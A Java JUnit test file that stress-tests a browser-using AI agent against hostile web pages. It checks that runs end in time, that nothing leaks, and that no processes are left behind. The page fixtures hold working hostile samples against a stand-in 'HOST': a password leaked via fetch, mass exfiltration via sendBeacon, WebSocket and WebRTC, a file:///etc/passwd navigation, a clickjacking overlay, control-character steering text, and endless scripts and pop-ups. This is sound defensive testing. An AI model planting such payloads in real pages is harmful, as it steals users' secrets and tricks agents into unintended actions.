// SPDX-License-Identifier: Apache-2.0
package dev.cadre.examples.browser;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cadre.Coordinator;
import dev.cadre.RunResult;
import dev.cadre.budget.Budget;
import dev.cadre.computer.Approval;
import dev.cadre.computer.ApprovalRule;
import dev.cadre.computer.ComputerUse;
import dev.cadre.computer.Environment;
import dev.cadre.computer.Scene;
import dev.cadre.computer.Screenshots;
import dev.cadre.model.ComputerTool;
import dev.cadre.model.Tier;
import dev.cadre.model.ToolCall;
import dev.cadre.task.Limits;
import dev.cadre.task.SubtaskType;
import dev.cadre.task.TaskGraph;
import dev.cadre.testing.ScriptedModel;
import java.nio.file.Path;
import java.time.Duration;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Whole runs against pages that want to hang, hide, deceive or get away: they end in time, and nothing leaves. Each has a
 * browser of its own, which has started before the time of the run begins. At night only, because that takes minutes.
 */
@Tag("nightly")
@ExtendWith(RequiresChromium.class)
class HostilePageTest {
    private static final Duration DEADLINE = Duration.ofSeconds(5);
    private static final Duration GRACE = Duration.ofSeconds(1);
    private static final String TYPED = "s3cret";
    /** Of what a rule is shown of a page. */
    private static final int LONGEST = 3_000;

    /** Pages whose place to click is at 56,366; {@code HOST} is nobody's to reach. */
    enum Page {
        ENDLESS_SCRIPT("<script>while (true) fetch('http://HOST/')</script>"),
        SCRIPT_THAT_HANGS_ON_A_CLICK("<button style=top:350px onclick='while (true);'>go</button>"),
        SCRIPT_THAT_HANGS_WHEN_HOVERED("<button style=top:350px onmousemove='while (true);'>go</button>"),
        DIALOGS_WITHOUT_END("<script>setInterval(() => alert(prompt('http://HOST/')), 1)</script>"),
        DIALOG_WHEN_LEFT("<script>onbeforeunload = () => 'stay'; setInterval(() => location.reload(), 1000)</script>"),
        RELOADS_WITHOUT_END("<script>location.reload()</script>"),
        FRAMES_WITHIN_FRAMES("<iframe src=/></iframe><iframe src='/?a'></iframe><iframe src=http://HOST/></iframe>"),
        PAGE_OF_A_MILLION_NODES(
                "<script>for (let i = 0; i < 1e6; i++) document.body.append(document.createElement('b'))</script>"),
        TITLE_OF_TEN_MEGABYTES("<script>document.title = 'x'.repeat(1e7)</script>"),
        ADDRESS_OF_A_MEGABYTE("<script>history.pushState(0, '', '/' + 'x'.repeat(1e6))</script>"),
        POP_UPS_WITHOUT_END(
                "<button style=top:350px onclick=\"const go = () => window.open('http://HOST/'); go(); setInterval(go, 20)\">go</button>"),
        PAGE_THAT_CLOSES_ITSELF("<script>setTimeout(() => close(), 300)</script>"),
        PRINTING("<script>setInterval(print, 10)</script>"),
        OTHER_PROGRAMS(
                "<button style=top:350px onclick=\"for (const s of ['mailto:a', 'tel:1', 'file:///etc/passwd', 'x-y:HOST', 'http://HOST/']) location = s\">go</button>"),
        STEERING_TEXT(
                "<button style=top:350px name='\u001b[2J\u202e\u200b'>go</button><script>document.title = '\\u001b]0;x\\u0007\\u2066'</script>"),
        COVERED_BUTTON(
                "<style>form:hover i { display: none } i { position: absolute; top: 350px; left: 40px; width: 400px; height: 32px }</style>"
                        + "<form method=post action=/order><button style=top:350px>Buy</button><i>harmless</i></form>"),
        BUTTON_IN_A_CLOSED_TREE(
                "<div style=position:absolute;top:350px;left:40px><template shadowrootmode=closed><form method=post action=/order>"
                        + "<button style=width:400px;height:32px>Buy</button></form></template></div>"),
        PASSWORD_THAT_SHOWS(
                "<input id=p type=password style=top:350px name=word><script>p.type = 'text'; p.oninput = () => fetch('/' + p.value)</script>"),
        EVERY_WAY_OUT_AT_ONCE(
                "<script>for (let i = 0; i < 500; i++) { new Image().src = 'http://HOST/' + i;"
                        + " navigator.sendBeacon('http://HOST/', 'x');"
                        + " try { new WebSocket('ws://HOST'); const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]});"
                        + " c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) } catch (e) {} }</script>");

        private final String html;

        Page(String html) {
            this.html = html;
        }
    }

    /** Pages on which nothing may ever be looked at. */
    private static final Set<Page> HANGING = EnumSet.of(
            Page.ENDLESS_SCRIPT,
            Page.SCRIPT_THAT_HANGS_WHEN_HOVERED,
            Page.RELOADS_WITHOUT_END,
            Page.PAGE_OF_A_MILLION_NODES);

    record Order(String name) {}

    record Filled(String summary, List<String> screenshots) {
        Filled shown(Screenshots pictures) {
            return new Filled(summary, pictures.files());
        }
    }

    @TempDir
    Path folder;

    @ParameterizedTest
    @EnumSource(Page.class)
    void run_againstAHostilePage_endsInTime_andNothingLeaves(Page page) throws Exception {
        try (Canary canary = Canary.open();
                FormServer site = new FormServer();
                Chromium browser =
                        Chromium.empty(ChromiumProcess.find().orElseThrow(), Set.of(Chromium.origin(site.address())))) {
            site.with(page.html.replace("HOST", "127.0.0.1:" + canary.port()));
            var scenes = new CopyOnWriteArrayList<Scene>();
            ApprovalRule rule = (action, scene) -> {
                scenes.add(scene);
                return scene.risks().isEmpty() && scene.checks().isEmpty() ? Approval.APPROVE : Approval.REFUSE;
            };

            var model = new ScriptedModel();
            var fill = fill(rule, model, () -> {
                browser.begin(site.address());
                return browser;
            });
            var graph = TaskGraph.builder();
            var filled = graph.add("fill", fill, new Order("Ada"));
            Coordinator coordinator = Coordinator.builder(model.pools())
                    .limits(Limits.DEFAULT.withDeadline(DEADLINE))
                    .build();

            long start = System.nanoTime();
            RunResult<Filled> result = coordinator.run(graph.answering(filled), Budget.usd("1.00"));
            var took = Duration.ofNanos(System.nanoTime() - start);

            assertThat(took).as("%s", result).isLessThan(DEADLINE.plus(GRACE));
            assertThat(site.asked()).as("the page").contains("GET /").noneMatch(path -> path.contains(TYPED));
            if (!HANGING.contains(page)) {
                assertThat(scenes).as("%s", result).isNotEmpty();
            }
            assertThat(canary.isReached(0)).isFalse();
            assertThat(site.posted()).isEmpty();
            assertThat(scenes)
                    .allSatisfy(scene -> assertThat(scene.address() + scene.title() + scene.target())
                            .hasSizeLessThan(LONGEST)
                            .doesNotContainPattern("[\\p{Cc}\\p{Cf}]"));
        }
        assertThat(ProcessHandle.current().descendants()).as("left behind").isEmpty();
    }

    private SubtaskType<Order, Filled> fill(ApprovalRule rule, ScriptedModel model, Environment.Source source) {
        var fill = SubtaskType.model("fill", Order.class, Filled.class, "Fill in the form.")
                .startingAt(Tier.MINI)
                .tools(ComputerUse.of(source, rule, folder, Filled.class, Filled::shown));
        var script = model.on(fill);
        for (int i = 0; i < 3; i++) {
            script.calls(new ToolCall("click" + i, ComputerTool.NAME, """
                    {"actions":[{"type":"click","x":56,"y":366,"button":"left"},{"type":"type","text":"%s"}]}""".formatted(TYPED)));
        }
        script.replies(new Filled("done", List.of()));
        return fill;
    }
}
